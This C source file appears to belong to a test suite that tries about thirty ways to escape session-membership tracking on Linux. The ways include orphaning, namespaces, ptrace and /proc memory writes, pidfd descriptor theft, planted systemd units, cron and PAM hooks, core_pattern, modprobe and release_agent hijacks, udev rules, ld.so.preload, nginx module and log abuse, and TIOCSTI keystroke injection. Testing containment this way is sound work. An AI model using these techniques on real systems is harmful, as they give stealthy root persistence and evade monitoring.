/*
 * Ways out of membership: to be no descendant of the login any more, to get into one who is none, or
 * to have somebody else (a deputy) run something.
 */
#define _GNU_SOURCE
#include "bypass.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SYSTEMCTL "/usr/bin/systemctl"
#define UNIT "malassay-bypass.service"
#define BYSTANDER "malassay-bystander.service"
#define UNIT_TEXT "[Service]\nType=oneshot\nExecStart=" SELF " --prove\n"

enum { PIDFD_OPEN = 434, PIDFD_GETFD = 438 };

extern volatile long ordered; /* proof.c */

/* ---- not a descendant any more ---- */

static enum outcome by_orphan(void) {
  if (fork() == 0) {
    if (fork() == 0) {
      while (getppid() != 1) usleep(10000);
      _exit(prove());
    }
    _exit(0);
  }
  wait(NULL);
  return proven(PATIENCE);
}

static enum outcome by_daemon(void) {
  if (fork() == 0) {
    setsid();
    if (fork() == 0) {
      (void)!chdir("/");
      for (int fd = 0; fd < 64; fd++) close(fd);
      execl(SELF, "daemon", "--prove", (char *)NULL);
    }
    _exit(0);
  }
  wait(NULL);
  return proven(PATIENCE);
}

/* As a child ended: with 0 when it could do this step, else with errno. */
static enum outcome proven_by(pid_t child, const char *step) {
  int status = await(child);
  if (status == 0 || has_proof(0)) return proven(0);
  if (WIFSIGNALED(status)) return ended(step, 128 + WTERMSIG(status));
  errno = WEXITSTATUS(status);
  return failed(step);
}

/* Moves itself into the control group of a service that is no member. */
static enum outcome by_cgroup(void) {
  static const char group[] = "/sys/fs/cgroup/system.slice/nginx.service/cgroup.procs";
  if (access(group, F_OK)) return absent("there is no control group of nginx.service");
  pid_t child = fork();
  if (child == 0) {
    static const char *const prove_there[] = {SELF, "--prove", NULL};
    _exit(write_file(group, "0", 1, 0, 0) || run(prove_there) < 0 ? errno : 0);
  }
  return proven_by(child, "move to another control group");
}

static enum outcome by_namespaces(void) {
  pid_t child = fork();
  if (child == 0) {
    if (unshare(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWIPC | CLONE_NEWUTS | CLONE_NEWCGROUP))
      _exit(errno);
    child = fork();
    if (child == 0) _exit(prove());
    waitpid(child, NULL, 0);
    _exit(0);
  }
  return proven_by(child, "new namespaces");
}

/* ---- into one who is no member ---- */

/* A service of the image that does nothing (stand_by), and is no member as it was there before. */
static pid_t bystander(void) {
  static const char *const start[] = {SYSTEMCTL, "restart", BYSTANDER, NULL};
  char id[16];
  unlink(BYSTANDER_ID);
  if (access(SYSTEMCTL, F_OK)) return 0;
  run(start);
  for (int tries = 0; tries < 100 && read_text(BYSTANDER_ID, id, sizeof id) <= 0; tries++)
    wait_a_moment(); /* as the file is empty at first */
  return atoi(id);
}

static enum outcome nobody(void) { return absent("no bystander can be started"); }

static enum outcome by_ptrace(void) {
  pid_t other = bystander();
  if (other <= 0) return nobody();
  if (ptrace(PTRACE_ATTACH, other, 0, 0)) return failed("ptrace");
  waitpid(other, NULL, 0);
  if (ptrace(PTRACE_POKEDATA, other, (void *)&ordered, (void *)1)) return failed("write by ptrace");
  ptrace(PTRACE_DETACH, other, 0, 0);
  return proven(PATIENCE);
}

static enum outcome by_memory(void) {
  char path[64];
  long one = 1;
  pid_t other = bystander();
  if (other <= 0) return nobody();
  snprintf(path, sizeof path, "/proc/%d/mem", (int)other);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return failed("open another process' memory");
  if (pwrite64(fd, &one, sizeof one, (off64_t)(uintptr_t)&ordered) != sizeof one)
    return failed("write to another process' memory");
  close(fd);
  return proven(PATIENCE);
}

static enum outcome by_vm_write(void) {
  long one = 1;
  struct iovec here = {&one, sizeof one}, there = {(void *)&ordered, sizeof one};
  pid_t other = bystander();
  if (other <= 0) return nobody();
  if (process_vm_writev(other, &here, 1, &there, 1, 0) != sizeof one)
    return failed("process_vm_writev");
  return proven(PATIENCE);
}

/* Another's descriptor of an executable that is open for writing: the first after the standard ones. */
static enum outcome by_descriptor(void) {
  pid_t other = bystander();
  if (other <= 0) return nobody();
  int process = (int)syscall(PIDFD_OPEN, other, 0);
  if (process < 0) return failed("pidfd_open");
  int fd = (int)syscall(PIDFD_GETFD, process, 3, 0);
  if (fd < 0) return failed("pidfd_getfd");
  if (ftruncate(fd, 0)) return failed("truncate by another's descriptor");
  if (pwrite(fd, payload, payload_size, 0) != (ssize_t)payload_size)
    return failed("write by another's descriptor");
  close(fd);
  if (kill(other, SIGKILL)) return failed("kill who has it open"); /* and so it is not executed */
  while (kill(other, 0) == 0) wait_a_moment();
  return runs(TARGETS "pidfd-getfd");
}

/* ---- deputies: systemd ---- */

/* Whether the journal could be read: what a unit said since the attempt began, and systemd of it (said). */
static int reads_journal(const char *unit) {
  static const char *const sync[] = {"/usr/bin/journalctl", "--sync", NULL};
  char since[48];
  const char *const look[] = {"/usr/bin/journalctl", "-q", "-o", "cat", since, "-u", unit, NULL};
  snprintf(since, sizeof since, "--since=@%lld.%06ld", (long long)began.tv_sec, began.tv_nsec / 1000);
  run(sync);
  return run_for_output(look) == 0;
}

/* What systemd was refused, it does not always say to who asked: it tells it to the journal. */
static enum outcome ended_unit(const char *unit, int status) {
  enum outcome outcome = ended("systemctl", status);
  if (outcome != NOT_TOLD || status < 0 || status > 128 || !reads_journal(unit)) return outcome;
  return ended("systemctl", status);
}

/* A unit is started, or anew, by systemctl's word for that. */
static enum outcome start_unit(const char *word, const char *unit) {
  const char *const start[] = {SYSTEMCTL, word, unit, NULL};
  int status = run(start);
  return status == 0 || has_proof(0) ? proven(PATIENCE) : ended_unit(unit, status);
}

static void reload(void) {
  static const char *const words[] = {SYSTEMCTL, "daemon-reload", NULL};
  run(words);
}

static enum outcome no_systemd(void) { return absent("there is no systemd"); }

static enum outcome started(void) {
  reload();
  return start_unit("start", UNIT);
}

static enum outcome unit_in(const char *path) {
  if (access(SYSTEMCTL, F_OK)) return no_systemd();
  if (write_text(path, UNIT_TEXT)) return failed("write a unit");
  return started();
}

static enum outcome by_unit(void) { return unit_in("/etc/systemd/system/" UNIT); }

static enum outcome by_unit_in_run(void) {
  mkdir("/run/systemd/system", 0755);
  return unit_in("/run/systemd/system/" UNIT);
}

static enum outcome by_renamed_unit(void) {
  if (access(SYSTEMCTL, F_OK)) return no_systemd();
  if (write_text("/etc/" UNIT, UNIT_TEXT)) return failed("write");
  if (rename("/etc/" UNIT, "/etc/systemd/system/" UNIT)) return failed("rename a file to a unit");
  return started();
}

static enum outcome by_linked_unit(void) {
  static const char *const link[] = {SYSTEMCTL, "link", OWN UNIT, NULL};
  if (access(SYSTEMCTL, F_OK)) return no_systemd();
  if (write_text(OWN UNIT, UNIT_TEXT)) return failed("write");
  int status = run(link);
  return status == 0 ? started() : ended("systemctl link", status);
}

#define DROP_INS "/etc/systemd/system/malassay-bystander.service.d"

/* More to be run by a unit that was there before. */
static enum outcome by_drop_in(void) {
  static const char text[] = "[Service]\nExecStartPre=" SELF " --prove\n";
  if (access(SYSTEMCTL, F_OK)) return no_systemd();
  if (mkdir(DROP_INS, 0755) && errno != EEXIST) return failed("make a folder of a unit");
  if (write_text(DROP_INS "/more.conf", text))
    return failed("write a part of a unit");
  reload();
  return start_unit("restart", BYSTANDER);
}

static enum outcome systemd_run(const char *unit) {
  const char *const words[] = {"/usr/bin/systemd-run", "-q", unit, SELF, "--prove", NULL};
  if (access(words[0], F_OK)) return absent("there is no systemd-run");
  int status = run(words);
  return status == 0 ? proven(PATIENCE) : ended("systemd-run", status);
}

static enum outcome by_systemd_run(void) { return systemd_run("--unit=" UNIT); }

/* blockdev@.target is a template that systemd brings. */
static enum outcome by_other_type(void) { return systemd_run("--unit=blockdev@malassay.service"); }

/* A unit of the name of one that was there. */
static enum outcome by_known_link(void) {
  static const char *const link[] = {SYSTEMCTL, "link", OWN BYSTANDER, NULL};
  static const char *const revert[] = {SYSTEMCTL, "revert", BYSTANDER, NULL};
  if (access(SYSTEMCTL, F_OK)) return no_systemd();
  if (write_text(OWN BYSTANDER, UNIT_TEXT)) return failed("write");
  int status = run(link);
  if (status) return ended("systemctl link", status);
  reload();
  enum outcome outcome = start_unit("restart", BYSTANDER);
  run(revert);
  reload();
  return outcome;
}

/* ---- other deputies ---- */

enum { BEFORE = 20 }; /* seconds: less than PATIENCE, and more than cron takes to be started anew */

/* cron looks at its tables at the full minute: so it is made to be some seconds before that one. */
static enum outcome cron_at(int minute) {
  static const char *const start[] = {SYSTEMCTL, "restart", "cron.service", NULL};
  struct timespec at;
  clock_gettime(CLOCK_REALTIME, &at);
  int period = minute < 0 ? 60 : 3600, before = (minute < 0 ? period : minute * 60) - BEFORE;
  at.tv_sec += (before + period - at.tv_sec % period) % period;
  if (clock_settime(CLOCK_REALTIME, &at)) return failed("set the clock");
  int status = run(start);
  return status == 0 ? proven(PATIENCE) : ended_unit("cron.service", status);
}

static int has_no_cron(void) { return access("/usr/sbin/cron", F_OK); }

static enum outcome no_cron(void) { return absent("there is no cron"); }

/* cron's unit starts bash as "cron -f", which first does what this file says. */
static enum outcome runs_as_cron(void) {
  static const char *const set[] = {SYSTEMCTL, "set-environment", "BASH_ENV=" OWN "script", NULL};
  static const char *const unset[] = {SYSTEMCTL, "unset-environment", "BASH_ENV", NULL};
  int status = run(set);
  if (status) return ended("systemctl set-environment", status);
  enum outcome outcome = start_unit("restart", "cron.service");
  run(unset);
  return outcome;
}

#define CRON "/usr/sbin/cron"
#define BASH "/usr/bin/bash"

/* What runs in cron's place, and afterwards cron as it was. */
static enum outcome in_place_of_cron(int (*take)(void), const char *step) {
  static char program[1 << 18];
  if (has_no_cron()) return no_cron();
  if (access(BASH, F_OK)) return absent("there is no bash");
  int fd = open(CRON, O_RDONLY | O_CLOEXEC);
  ssize_t size = fd < 0 ? -1 : read(fd, program, sizeof program);
  if (size <= 0 || size == sizeof program) return not_told("cron cannot be kept");
  close(fd);
  if (write_text(OWN "script", SELF " --prove\n")) return failed("write");
  enum outcome outcome = take() ? failed(step) : runs_as_cron();
  struct stat is;
  if (lstat(CRON, &is) || !S_ISREG(is.st_mode) || is.st_size != size) {
    unlink(CRON);
    write_file(CRON, program, (size_t)size, O_CREAT | O_EXCL, 0755);
  }
  return outcome;
}

static int takes_by_link(void) { return unlink(CRON) || symlink(BASH, CRON); }

static int takes_by_rename(void) {
  unlink(CRON ".new");
  return link(BASH, CRON ".new") || rename(CRON ".new", CRON);
}

static enum outcome by_program_link(void) {
  return in_place_of_cron(takes_by_link, "put a link in the place of a program");
}

static enum outcome by_program_rename(void) {
  return in_place_of_cron(takes_by_rename, "put a shell in the place of a program");
}

/* A unit of systemd's own starts "/etc/rc.local start", in the root; where there is none, a link will do. */
static enum outcome by_new_program(void) {
  if (access("/usr/lib/systemd/system/rc-local.service", F_OK)) return absent("there is no rc-local.service");
  if (access("/etc/rc.local", F_OK) == 0) return absent("there is an /etc/rc.local");
  if (write_text("/start", SELF " --prove\n")) return failed("write");
  enum outcome outcome = symlink("/bin/sh", "/etc/rc.local") ? failed("make a program of a unit")
                                                             : start_unit("restart", "rc-local.service");
  unlink("/etc/rc.local");
  unlink("/start");
  return outcome;
}

#define TABLE "/etc/cron.d/malassay-bypass"
#define ENTRY "* * * * * root " SELF " --prove"

static enum outcome by_cron(void) {
  if (has_no_cron()) return no_cron();
  if (write_text(TABLE, ENTRY "\n")) return failed("write a table of cron");
  return cron_at(-1);
}

/* What cron does for every entry, also for those that were there: /etc/crontab has one at 17 past. */
static enum outcome by_pam(void) {
  static const char line[] = "session optional pam_exec.so " SELF " --prove\n";
  if (has_no_cron()) return no_cron();
  if (write_file("/etc/pam.d/cron", line, strlen(line), O_APPEND, 0))
    return failed("write what PAM does for cron");
  return cron_at(17);
}

/* Writes to a file of the kernel, and afterwards what was there. */
static int swap(const char *path, const char *text, char *old, size_t room) {
  read_text(path, old, room);
  return write_file(path, text, strlen(text), 0, 0);
}

static enum outcome by_core_pattern(void) {
  static const char pattern[] = "/proc/sys/kernel/core_pattern";
  char old[256];
  if (swap(pattern, "|" SELF " --prove", old, sizeof old)) return failed("write core_pattern");
  pid_t child = fork();
  if (child == 0) {
    struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &any);
    abort();
  }
  await(child);
  enum outcome outcome = proven(PATIENCE);
  write_file(pattern, old, strlen(old), 0, 0);
  return outcome;
}

/* The kernel calls it "modprobe -q -- NAME": main takes that for --prove. */
static enum outcome by_modprobe(void) {
  static const char modprobe[] = "/proc/sys/kernel/modprobe";
  char old[256];
  if (access(modprobe, F_OK)) return absent("the kernel loads no modules");
  if (swap(modprobe, SELF, old, sizeof old)) return failed("write the path of modprobe");
  int fd = socket(AF_X25, SOCK_SEQPACKET, 0); /* which it has no module for yet */
  if (fd >= 0) close(fd);
  enum outcome outcome = fd >= 0 ? absent("the kernel misses no module") : proven(PATIENCE);
  write_file(modprobe, old, strlen(old), 0, 0);
  return outcome;
}

/* The kernel calls it with the path of an empty group: main takes that for --prove. */
static enum outcome by_release_agent(void) {
  mkdir(OWN "groups", 0755);
  if (mount("none", OWN "groups", "cgroup", 0, "none,name=malassay"))
    return errno == ENODEV || errno == EINVAL ? absent("the kernel has no control groups of version 1")
                                              : failed("mount control groups of version 1");
  enum outcome outcome = CLOSED;
  mkdir(OWN "groups/one", 0755);
  if (write_file(OWN "groups/release_agent", SELF, strlen(SELF), 0, 0) ||
      write_file(OWN "groups/one/notify_on_release", "1", 1, 0, 0)) {
    outcome = failed("name a release agent");
  } else {
    pid_t child = fork();
    if (child == 0) _exit(write_file(OWN "groups/one/cgroup.procs", "0", 1, 0, 0) != 0);
    await(child);
    outcome = proven(PATIENCE);
  }
  rmdir(OWN "groups/one");
  umount2(OWN "groups", MNT_DETACH);
  return outcome;
}

static enum outcome by_udev(void) {
  static const char rule[] = "/etc/udev/rules.d/99-malassay-bypass.rules";
  static const char *const reload[] = {"/usr/bin/udevadm", "control", "--reload", NULL};
  static const char *const trigger[] = {"/usr/bin/udevadm", "trigger", "--action=change",
                                        "/sys/devices/virtual/mem/null", NULL};
  if (access(reload[0], F_OK)) return absent("there is no udev");
  if (write_text(rule, "ACTION==\"change\", KERNEL==\"null\", RUN+=\"" SELF " --prove\"\n"))
    return failed("write a rule of udev");
  run(reload);
  run(trigger);
  return proven(PATIENCE);
}

static pid_t nginx(void) {
  char id[16];
  return read_text("/run/nginx.pid", id, sizeof id) > 0 ? atoi(id) : 0;
}

/* Proven by what nginx loads when it is started anew; closed when it says that it was refused. */
static enum outcome loaded_by_nginx(void) {
  static const char *const start[] = {SYSTEMCTL, "restart", "nginx.service", NULL};
  static char maps[1 << 16];
  char path[64];
  int status = run(start);
  if (status && !has_proof(0)) return ended_unit("nginx.service", status);
  snprintf(path, sizeof path, "/proc/%d/maps", (int)nginx());
  size_t length = 0;
  ssize_t n;
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  while (fd >= 0 && (n = read(fd, maps + length, sizeof maps - 1 - length)) > 0) length += (size_t)n;
  maps[length] = 0;
  if (fd >= 0) close(fd);
  if (!strstr(maps, "/nginx") || !strstr(maps, "[stack]") || strstr(maps, OWN "object"))
    return proven(PATIENCE);
  const char *line = reads_journal("nginx.service") ? said_of_loading(OWN "object") : NULL;
  return line ? closed(line) : not_told("nginx runs without it");
}

/* Everything that is executed from then on loads it: also what is no member. */
static enum outcome by_ld_so_preload(void) {
  static const char list[] = "/etc/ld.so.preload";
  if (access("/usr/sbin/nginx", F_OK)) return absent("there is no nginx to be started anew");
  if (write_file(OWN "object", preload, preload_size, O_CREAT, 0644)) return failed("write");
  if (write_text(list, OWN "object\n")) return failed("write /etc/ld.so.preload");
  enum outcome outcome = loaded_by_nginx();
  unlink(list);
  return outcome;
}

/* What systemd hands to all services that it starts. */
static enum outcome by_environment(void) {
  static const char *const set[] = {SYSTEMCTL, "set-environment", "LD_PRELOAD=" OWN "object", NULL};
  static const char *const unset[] = {SYSTEMCTL, "unset-environment", "LD_PRELOAD", NULL};
  if (access("/usr/sbin/nginx", F_OK)) return absent("there is no nginx to be started anew");
  if (write_file(OWN "object", preload, preload_size, O_CREAT, 0644)) return failed("write");
  int status = run(set);
  if (status) return ended("systemctl set-environment", status);
  enum outcome outcome = loaded_by_nginx();
  run(unset);
  return outcome;
}

/* ---- a service that does what its setting says ---- */

static char setting[1 << 16];

/* Puts a line into nginx' setting in the place of another (of the beginning, without one). */
static int set_nginx(const char *in_place_of, const char *line) {
  static char text[sizeof setting + 1024];
  if (read_text("/etc/nginx/nginx.conf", setting, sizeof setting) <= 0) return -1;
  const char *at = in_place_of ? strstr(setting, in_place_of) : setting;
  if (!at) {
    errno = ENOENT;
    return -1;
  }
  snprintf(text, sizeof text, "%.*s%s%s", (int)(at - setting), setting, line,
           at + (in_place_of ? strlen(in_place_of) : 0));
  return write_text("/etc/nginx/nginx.conf", text);
}

static enum outcome by_service(void) {
  if (!nginx()) return absent("nginx does not run");
  if (write_file("/etc/nginx/malassay-object", preload, preload_size, O_CREAT, 0644))
    return failed("write");
  if (set_nginx(NULL, "load_module /etc/nginx/malassay-object;\n")) return failed("write nginx.conf");
  static const char *const test[] = {"/usr/sbin/nginx", "-t", NULL};
  kill(nginx(), SIGHUP);
  enum outcome outcome = proven(PATIENCE / 3);
  if (outcome == NOT_TOLD) { /* why not, it says to who asks */
    int status = run(test);
    if (status) outcome = ended("nginx -t", status);
  }
  write_text("/etc/nginx/nginx.conf", setting);
  return outcome;
}

static void ask_nginx(void) {
  struct sockaddr_in there = {.sin_family = AF_INET,
                              .sin_port = htons(80),
                              .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  char answer[512];
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(fd, (struct sockaddr *)&there, sizeof there) == 0 &&
      write(fd, "GET / HTTP/1.0\r\n\r\n", 18) == 18)
    while (read(fd, answer, sizeof answer) > 0) continue;
  close(fd);
}

/* Its log is a table of cron. */
static enum outcome by_service_log(void) {
  if (has_no_cron()) return no_cron();
  if (!nginx()) return absent("nginx does not run");
  if (set_nginx("access_log off;", "log_format table escape=none '" ENTRY "';\n"
                                   "access_log " TABLE " table;"))
    return failed("write nginx.conf");
  kill(nginx(), SIGHUP);
  char line[2]; /* an old worker may answer at first */
  for (int tries = 0; tries < 200 && read_text(TABLE, line, sizeof line) <= 0; tries++) {
    ask_nginx();
    wait_a_moment();
  }
  enum outcome outcome = cron_at(-1);
  write_text("/etc/nginx/nginx.conf", setting);
  return outcome;
}

static int runs_shell(void) {
  char id[16], link[64], program[64] = "";
  if (read_text("/sys/fs/cgroup/system.slice/debug-shell.service/cgroup.procs", id, sizeof id) <= 0) return 0;
  snprintf(link, sizeof link, "/proc/%d/exe", atoi(id));
  ssize_t length = readlink(link, program, sizeof program - 1);
  return length > 2 && strcmp(program + length - 2, "sh") == 0;
}

/* A shell on a terminal, and what is typed there is another's words. */
static enum outcome by_debug_shell(void) {
  static const char unit[] = "debug-shell.service", words[] = SELF " --prove\n";
  static const char *const start[] = {SYSTEMCTL, "start", unit, NULL};
  static const char *const stop[] = {SYSTEMCTL, "stop", unit, NULL};
  /* Which is tried some times before systemd gives up. */
  static const char *const look[] = {"/usr/bin/journalctl", "-n", "40", "-o", "cat", "-u", unit, NULL};
  if (access("/usr/lib/systemd/system/debug-shell.service", F_OK)) return absent("there is no debug-shell.service");
  if (access("/dev/tty9", F_OK)) return absent("there is no terminal for its shell");
  int status = run(start);
  if (status) return ended_unit(unit, status);
  for (int tries = 0; tries < 60 && !runs_shell(); tries++) usleep(50000);
  sleep(1); /* until it reads */
  enum outcome outcome = CLOSED;
  if (!runs_shell()) {
    run(look);
    outcome = ended("its shell", 1);
  } else {
    int terminal = open("/dev/tty9", O_RDWR | O_NOCTTY | O_CLOEXEC);
    const char *letter = words;
    while (terminal >= 0 && *letter && ioctl(terminal, TIOCSTI, letter) == 0) letter++;
    outcome = *letter ? failed("type on its terminal") : proven(PATIENCE);
    if (terminal >= 0) close(terminal);
  }
  run(stop);
  return outcome;
}

const struct bypass MEMBERSHIPS[] = {
    {"orphan", "a process whose parents have ended", by_orphan},
    {"daemon", "a daemon: a session of its own, no parents, another program", by_daemon},
    {"cgroup", "a process that moves to the control group of a service", by_cgroup},
    {"namespaces", "a process in new namespaces", by_namespaces},
    {"ptrace", "another process is traced, and its memory written", by_ptrace},
    {"proc-mem", "another process' memory is written by /proc", by_memory},
    {"process-vm-writev", "another process' memory is written by process_vm_writev", by_vm_write},
    {"pidfd-getfd", "another process' descriptor of an executable is taken", by_descriptor},
    {"systemd-run", "a unit without a file, by systemd-run", by_systemd_run},
    {"unit", "a unit in /etc/systemd/system", by_unit},
    {"unit-in-run", "a unit in /run/systemd/system", by_unit_in_run},
    {"unit-renamed", "a file that is renamed to a unit", by_renamed_unit},
    {"unit-linked", "a unit elsewhere, by systemctl link", by_linked_unit},
    {"unit-drop-in", "a command that is added to a unit that was there", by_drop_in},
    {"unit-link-known", "a unit elsewhere of a known one's name, by systemctl link", by_known_link},
    {"unit-other-type", "a unit that is named like a template of another type", by_other_type},
    {"unit-debug-shell", "letters for the shell on a terminal that a known unit starts", by_debug_shell},
    {"program-link", "a program of a known unit is removed, and a link to a shell put there", by_program_link},
    {"program-rename", "a shell is renamed over a program of a known unit", by_program_rename},
    {"program-new", "a shell is linked to where a known unit's program would be", by_new_program},
    {"cron", "a table of cron", by_cron},
    {"pam-cron", "a program that PAM runs for entries of cron that were there", by_pam},
    {"core-pattern", "a program for core dumps in core_pattern", by_core_pattern},
    {"modprobe-path", "a program for the kernel to load modules with", by_modprobe},
    {"release-agent", "a program for the kernel to tell of empty control groups", by_release_agent},
    {"udev-rule", "a rule of udev", by_udev},
    {"ld-so-preload", "a written shared object in /etc/ld.so.preload", by_ld_so_preload},
    {"systemd-environment", "a written shared object, by the environment of services", by_environment},
    {"service-module", "a written module, loaded by nginx as its setting says", by_service},
    {"service-log", "a log of nginx that is a table of cron, as its setting says", by_service_log},
    {NULL, NULL, NULL}};
